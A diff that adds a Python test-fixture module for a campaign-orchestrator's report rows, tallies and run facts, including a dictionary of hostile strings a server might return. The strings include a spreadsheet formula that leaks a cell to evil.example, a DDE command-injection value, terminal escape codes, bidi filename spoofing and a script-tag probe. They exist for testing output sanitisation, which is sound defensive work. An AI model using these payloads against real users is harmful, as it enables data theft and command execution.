@@ -1,0 +1,110 @@
+"""Report rows, tallies and run facts, and the texts that a hostile server might write."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from orchestrator.core.outcome import Changed, Evidence, Outcome
+from orchestrator.core.report import ReportRow, RunKind, Tally
+from orchestrator.core.summary import Ended, RunFacts
+
+#: 2026-11-23T23:05:01.123Z
+AT_MS = 1_795_475_101_123
+
+#: [S43] what a resultDesc or a campaign name may contain
+HOSTILE = {
+    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(1,1)",
+    "full-width": "\uff1d1\uff0b1",
+    "tab first": "\t=1+1",
+    "return first": "\r=1+1",
+    "newline first": "\n=1+1",
+    "space first": " =1+1",
+    "zero-width first": "\u200b=1+1",
+    "colours": "\x1b[31mred\x1b[0m",
+    "window title": "\x1b]0;owned\x07",
+    "one-byte CSI": "\x9b31m",
+    "newlines": "line one\nline two\r\nline three\u2028four\u2029five\x85six",
+    "bidi": "campaign \u202egnp.exe\u2066x\u2069",
+    "zero-width": "cam\u200bpa\u200dign\ufeff",
+    "deleted": "abc\x7f\x08\x08\x08xyz",
+    "nul": "abc\x00xyz",
+    "surrogate": "lone \ud800 half",
+    "tags": "\U000e0041\U000e0042",
+    "fillers": "\u3164\u115f\u034f\ufe0f\U000e0101",
+    "markup": "<script>alert(1)</script>",
+    "quotes": 'a "quoted", comma; and \\backslash',
+    "megabyte": "A" * 1_000_000,
+    "megabyte of controls": "\x1b" * 1_000_000,
+}
+
+
+def make_row(outcome: Outcome = Outcome.PAUSED, **changes: Any) -> ReportRow:
+    """A row of a campaign that was paused at the first attempt, unless told otherwise."""
+    fields: dict[str, Any] = {
+        "vdn_id": "1201",
+        "campaign_id": "146",
+        "campaign_name": "spring",
+        "outcome": outcome,
+        "evidence": Evidence.ACCEPTED,
+        "changed": Changed.YES,
+        "may_start": "",
+        "state_before": "started",
+        "state_after": "",
+        "state_seen_at_ms": AT_MS,
+        "attempts": 1,
+        "result_code": "0200000",
+        "result_name": "success",
+        "result_desc": "success",
+        "http_status": 200,
+        "first_sent_at_ms": AT_MS,
+        "settled_at_ms": AT_MS + 80,
+        "line": 2,
+        "duplicate_of": None,
+        "run_id": "20261123T230501Z-7f3a",
+        "error": "",
+    }
+    return ReportRow(**(fields | changes))
+
+
+def database_failure(**changes: Any) -> ReportRow:
+    """A campaign that met nothing but database errors."""
+    fields = {
+        "result_code": "0200006",
+        "attempts": 5,
+        "changed": Changed.NO,
+        "evidence": Evidence.NONE,
+        "error": "database operation error (0200006)",
+    }
+    return make_row(Outcome.FAILED, **(fields | changes))
+
+
+def tally_of(*rows: ReportRow, **counts: int) -> Tally:
+    """Count these rows, and as many plain ones as told: `paused=3, not_found=1`."""
+    tally = Tally()
+    for row in rows:
+        tally.add(row)
+    for name, number in counts.items():
+        for _ in range(number):
+            tally.add(make_row(Outcome(name), error="", result_code=""))
+    return tally
+
+
+def make_facts(kind: RunKind = RunKind.PAUSE, **changes: Any) -> RunFacts:
+    """A run that came to its end, unless told otherwise."""
+    fields: dict[str, Any] = {
+        "run_id": "20261123T230501Z-7f3a",
+        "kind": kind,
+        "reason": "wrong list",
+        "operator": "ana",
+        "host": "jump1",
+        "version": "0.1.0",
+        "server": "https://isales.example.com:28080",
+        "settings": {"pace.rate_per_s": 10.0},
+        "started_at_ms": AT_MS,
+        "ended_at_ms": AT_MS + 60_000,
+        "ended": Ended.FINISHED,
+    }
+    return RunFacts(**(fields | changes))
